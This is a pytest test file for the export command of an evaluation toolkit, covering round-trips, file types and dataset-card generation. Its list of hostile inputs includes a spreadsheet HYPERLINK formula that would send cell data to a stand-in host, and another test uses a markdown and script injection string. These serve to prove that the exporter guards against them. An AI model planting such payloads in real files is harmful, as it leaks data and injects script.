"""``lmms-rpts export``: written files are read back unchanged; no formulas in spreadsheets."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from lmms_rpts.analysis.dataframes import (
    DRAW_TYPES,
    STEP_TYPES,
    ExportError,
    read_frame,
    steps_frame,
    typed,
    write_frame,
)
from lmms_rpts.analysis.export import TRL_TYPES
from lmms_rpts.cli import app
from lmms_rpts.tasks.rpts_eval.runs import read_runs
from tests.support.instances import make_doc
from tests.support.perturbed_runs import draws, write_rpts_run
from tests.support.rome_runs import make_rome_record, write_rome_run
from tests.support.runs import STEPS, make_record, scoring_with, write_run
from tests.support.tables import table
from tests.support.validity import JUDGE, write_validity

FORMATS = [".parquet", ".jsonl", ".csv"]
HOSTILE = [
    "two\nlines",
    "carriage\rreturn\r\nand both",
    "\u2028line\u2029ends\x85of other kinds",
    "say \"yes\", or 'no'; tab\there, back\\slash",
    "emoji 👩‍👩‍👧 🏳️‍🌈 and \u202eright to left\u202c שלום",
    *("NA", "None", "nan", "true", "007", "  spaces  "),
    '=HYPERLINK("http://x.y/?"&A1,"see")',
    *("'=already guarded", "''@twice", "+1", "-1", "@SUM(1)", "＝1", "\t=1", "\ufeffmark"),
    "图片0 -> 结论0：钟指向九点。",
]
EDGES = ["", "=", "'", "''", "-", "\0", "\r", "\n", '"', ","]


def export(*arguments: object) -> Result:
    return CliRunner().invoke(app, ["export", *map(str, arguments)])


def row(**cells: object) -> dict[str, object]:
    known = {"string": "x", "int64": 1, "Int64": None, "float64": 0.5, "bool": True}
    known["boolean"] = None
    return {name: known[kind] for name, kind in STEP_TYPES.items()} | cells


@pytest.mark.parametrize("suffix", FORMATS)
@settings(
    max_examples=20,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    texts=st.lists(
        st.one_of(
            st.none(),
            st.sampled_from(HOSTILE + EDGES),
            # All of Unicode, including lone surrogates.
            st.text(st.characters(), max_size=8),
            st.text("=+-@'\"\t\r\n, \0", max_size=6),
        ),
        max_size=5,
    ),
    score=st.one_of(st.none(), st.floats(0, 1)),
    doc_id=st.integers(0, 2**63 - 1),
    correct=st.sampled_from([None, True, False]),
)
def test_any_frame_comes_back(
    tmp_path: Path,
    suffix: str,
    texts: list[str | None],
    score: float | None,
    doc_id: int,
    correct: bool | None,
) -> None:
    rows = [row(conclusion=text, score=score, doc_id=doc_id, correct=correct) for text in texts]
    frame, file = typed(rows, STEP_TYPES), tmp_path / f"steps{suffix}"
    write_frame(frame, file)
    if suffix == ".csv":  # as docs/export.md says
        frame["conclusion"] = frame["conclusion"].str.replace("\0", "\ufffd").replace("", pd.NA)
    pd.testing.assert_frame_equal(read_frame(file), frame)


def test_pandas_alone_reads_all_formats(tmp_path: Path) -> None:
    rows = [row(conclusion=text, doc_id=at) for at, text in enumerate(HOSTILE)]
    for suffix in FORMATS:
        write_frame(typed(rows, STEP_TYPES), tmp_path / f"steps{suffix}")
    lines = pd.read_json(tmp_path / "steps.jsonl", lines=True, dtype=False)
    assert pd.read_parquet(tmp_path / "steps.parquet")["conclusion"].tolist() == HOSTILE
    assert lines["conclusion"].tolist() == HOSTILE
    table = pd.read_csv(tmp_path / "steps.csv", keep_default_na=False)
    assert table.columns.tolist() == list(STEP_TYPES), "the byte-order mark is not part of a name"
    assert [text.lstrip("'") for text in table["conclusion"]] == [t.lstrip("'") for t in HOSTILE]


def test_a_spreadsheet_runs_no_cell(tmp_path: Path) -> None:
    rows = [row(**dict.fromkeys(("run", "id", "conclusion", "reply"), text)) for text in HOSTILE]
    write_frame(typed(rows, STEP_TYPES), tmp_path / "steps.csv")
    with (tmp_path / "steps.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert '\'=HYPERLINK("http://x.y/?"&A1,"see")' in cells
    assert "'+1" in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@＝\t\r\n")]


@table("suffix", *FORMATS)
def test_a_run_without_any_step_gives_a_file_without_rows(tmp_path: Path, suffix: str) -> None:
    run = write_run(tmp_path, {0: make_record([], steps=(), answer=None)})
    done = export(run, "-o", tmp_path / f"out{suffix}")
    assert done.exit_code == 0, done.output
    assert done.output.startswith("0 steps of 1 responses written to")
    frame = read_frame(tmp_path / f"out{suffix}")
    assert {name: str(kind) for name, kind in frame.dtypes.items()} == dict(STEP_TYPES)


def test_parquet_keeps_types_where_all_values_are_missing(tmp_path: Path) -> None:
    import pyarrow.parquet

    run = write_run(tmp_path, {0: make_record([None, None])})
    assert export(run, "-o", tmp_path / "out.parquet").exit_code == 0
    schema = pyarrow.parquet.read_schema(tmp_path / "out.parquet")
    kinds = {name: str(schema.field(name).type).removeprefix("large_") for name in schema.names}
    assert list(kinds) == list(STEP_TYPES)
    assert (kinds["score"], kinds["rpts"]) == ("double", "double")
    assert (kinds["note"], kinds["relation"], kinds["reply"]) == ("string", "string", "string")
    assert (kinds["step"], kinds["doc_id"], kinds["correct"]) == ("int64", "int64", "bool")
    frame = pd.read_parquet(tmp_path / "out.parquet")
    assert len(frame) == 2
    assert frame["score"].isna().all(), "unscored steps are there"


@table("name", "out.xlsx", "out.csv.gz", ".csv")
def test_an_unknown_suffix_is_refused_before_anything_is_read(tmp_path: Path, name: str) -> None:
    failed = export("/nowhere", "-o", tmp_path / name)
    assert failed.exit_code == 1
    assert all(suffix in failed.output for suffix in FORMATS)
    assert len(failed.output.splitlines()) == 1


@table("suffix", *FORMATS)
def test_a_file_is_replaced_whole_or_stays(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"out{suffix}"
    out.write_text("what was here before")
    run = write_run(tmp_path / "run", {0: make_record([1.0, 1.0])})
    frame = steps_frame(read_runs([run]))
    broken = frame.assign(reply=[object(), object()])  # no format can hold it
    if suffix != ".csv":
        with pytest.raises(Exception, match="object"):
            write_frame(broken, out)
        assert out.read_text() == "what was here before"
    assert export(run, "-o", out).exit_code == 0
    pd.testing.assert_frame_equal(read_frame(out), frame)
    assert sorted(path.name for path in tmp_path.iterdir()) == [out.name, "run"], "no file is left"


def test_a_place_that_can_not_be_written_is_one_clear_error(tmp_path: Path) -> None:
    run = write_run(tmp_path / "run", {0: make_record([1.0, 1.0])})
    (tmp_path / "file").write_text("")
    (tmp_path / "folder.csv").mkdir()
    for out in (tmp_path / "file" / "out.csv", tmp_path / "folder.csv"):
        failed = export(run, "-o", out)
        assert (failed.exit_code, str(out) in failed.output) == (1, True)
        assert "Traceback" not in failed.output
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "folder.csv", "run"]


@table(
    "suffix, content",
    (".jsonl", "[1]\n"),
    (".jsonl", "{no\n"),
    (".parquet", "no parquet"),
    (".csv", ""),
)
def test_a_file_of_others_is_no_export(tmp_path: Path, suffix: str, content: str) -> None:
    (tmp_path / f"x{suffix}").write_text(content)
    with pytest.raises(ExportError, match=f"x{suffix}"):
        read_frame(tmp_path / f"x{suffix}")


def test_the_columns_are_documented() -> None:
    text = (Path(__file__).parents[1] / "docs" / "export.md").read_text(encoding="utf-8")
    table = [line.split("|")[1].strip() for line in text.splitlines() if line.startswith("| `")]
    assert table == [f"`{name}`" for name in (*STEP_TYPES, *TRL_TYPES)]


# --- training data, and folders for load_dataset -------------------------------------------------

THREE = (*STEPS, "Conclusion1 -> Come back tomorrow.")


def load(folder: Path) -> Any:
    from datasets import load_dataset

    return load_dataset(str(folder), split="train", cache_dir=str(folder.parent / "cache"))


def rows_of(folder: Path) -> Path:
    (found,) = folder.glob("data/*")
    return found


@pytest.fixture
def judged(tmp_path: Path) -> Path:
    """Three steps, of which one has no score; nothing but failures; two steps; no step."""
    responses = {
        0: make_record([0.5, None, 0.49], steps=THREE),
        1: make_record([None, None]),
        2: [make_record([1.0, 0.0]), make_record([], steps=(), answer=None)],
    }
    return write_run(tmp_path / "run", responses, task="rpts_eval_en")


def test_judged_steps_train_a_process_reward_model(judged: Path, tmp_path: Path) -> None:
    out, validity = tmp_path / "prm", write_validity(tmp_path / "validity.json")
    options = ("--format", "trl", "--validity", validity)
    done = export(judged, *options, "-o", out)
    assert done.output == (
        f"4 labelled steps of 4 responses (3 without a score left out) written to {out} "
        f"({rows_of(out).stat().st_size / 1e3:,.1f} kB)\n"
    )
    found = load(out)
    assert (found.column_names, len(found)) == (list(TRL_TYPES), 2)
    kinds = {"completions": "string", "labels": "bool", "scores": "float64", "steps": "int64"}
    for name, kind in kinds.items():
        assert found.features[name].feature.dtype.removeprefix("large_") == kind
    first, second = found
    assert first["labels"] == [True, False]
    assert first["steps"] == [0, 2], "the others keep their numbers"
    assert first["completions"] == [
        "Image0 -> Conclusion0: The clock shows nine.",
        "Conclusion1 -> Conclusion2: Come back tomorrow.",
    ]
    assert (second["scores"], second["labels"], second["repeat"]) == ([1.0, 0.0], [True, False], 0)
    doc = make_doc()
    assert first["prompt"].splitlines() == [
        f"Context: {doc['context']}",
        *(f"Image {at}: {name}" for at, name in enumerate(doc["visual_clue"])),
        *(f"Text {at}: {text}" for at, text in enumerate(doc["textual_clue"])),
        f"Statement: {doc['statement']}",
    ]
    card = (out / "README.md").read_text("utf-8")
    front, *_ = yaml.safe_load_all(card.split("---\n\n")[0])
    assert (front["license"], front["language"]) == ("cc-by-4.0", ["en"])
    for row in (
        "| steps left out: no score | 3 |",
        "| steps labelled wrong | 2 |",
        "| a step is right from this score on | 0.5 |",
        f"| judge | {JUDGE} |",
        "| prompt\\_version | 1 |",
        "| rpts\\_eval\\_en | RPTS-Eval | cc-by-4.0 |",
    ):
        assert row in card

    # Once more, with another threshold; and as files.
    assert export(judged, *options, "--threshold", 0.4, "-o", out).exit_code == 0
    assert load(out)[0]["labels"] == [True, True]
    for suffix in (".parquet", ".jsonl"):
        assert export(judged, *options, "-o", tmp_path / f"x{suffix}").exit_code == 0
    rows = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text("utf-8").splitlines()]
    assert rows == list(found)
    assert (
        pd.read_parquet(tmp_path / "x.parquet")["labels"].map(list).tolist() == [[True, False]] * 2
    )


def test_the_card_says_how_well_the_judge_judges(tmp_path: Path) -> None:
    scoring = scoring_with(judge=JUDGE, prompt_version="1", comparable=True)
    hostile = "[x](http://y) | `b` <script>\n---\nlicense: mit"
    run = write_run(tmp_path / "run", {0: make_record([1.0, 1.0], scoring=scoring)}, task="mine")
    out = tmp_path / "out"
    validity = write_validity(tmp_path / "validity.json")
    assert export(f"{hostile}={run}", "-o", out, "--validity", validity).exit_code == 0
    card = (out / "README.md").read_text("utf-8")
    assert f"{JUDGE} on " in card.replace("\\", "")
    assert "AUC" in card
    assert "| mine | data of the task |  |" in card
    assert yaml.safe_load(card.split("---")[1])["license"] == "other"
    assert "<script>" not in card
    assert "[x](" not in card
    assert load(out).column_names == list(STEP_TYPES)


def test_responses_of_any_benchmark_as_a_folder(tmp_path: Path) -> None:
    run = write_rome_run(tmp_path / "rome", {"geo": [make_rome_record()]})
    assert export(*run, "--responses", "-o", tmp_path / "out").exit_code == 0
    (row,) = load(tmp_path / "out")
    assert row["task"] == "rome_geo"
    assert "| rome\\_geo | ROME |  |" in (tmp_path / "out" / "README.md").read_text("utf-8")


def test_what_is_no_training_data(judged: Path, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("")
    unscored = write_run(tmp_path / "bare", {0: make_record([None, None])})
    for arguments, said in (
        ((judged, "-o", tmp_path / "x.csv"), "CSV holds no lists"),
        ((judged, "--responses", "-o", tmp_path / "x"), "leave out --responses"),
        ((unscored, "-o", tmp_path / "x"), "No step of these runs has a score"),
        ((judged, "-o", tmp_path / "mine"), "is not an export: choose a new folder"),
        ((judged, "-o", tmp_path / "mine" / "thesis.txt" / "x"), "Cannot write to"),
    ):
        failed = export(*arguments, "--format", "trl")
        assert (failed.exit_code, said in failed.output) == (1, True), failed.output
        assert len(failed.output.splitlines()) == 1
    assert not (tmp_path / "x").exists()
    assert [each.name for each in (tmp_path / "mine").iterdir()] == ["thesis.txt"]


@pytest.mark.parametrize("suffix", FORMATS)
def test_draws_of_expanded_tasks_have_columns(tmp_path: Path, suffix: str) -> None:
    design = draws(2, wording=2, clues=2, negated=2)
    write_rpts_run(tmp_path / "run", "wording", design, samples=2)
    path = tmp_path / f"out{suffix}"
    assert export(tmp_path / "run", "--responses", "-o", path).exit_code == 0
    frame = read_frame(path)
    assert [*frame][-len(DRAW_TYPES) :] == [*DRAW_TYPES]
    wordings = frame.groupby(["sample", "wording"])["accuracy"].mean()
    assert wordings.tolist() == [1, 0, 1, 0]
    assert frame["clues"].fillna("").tolist() == ["", "", "1 0", "1 0"] * 4
    assert frame["negated"].tolist() == [False, True] * 8
    steps = export(tmp_path / "run", "-o", path)
    assert steps.exit_code == 0, steps.output
    assert read_frame(path)["draw"].tolist() == sorted([*range(8)] * 2) * 2
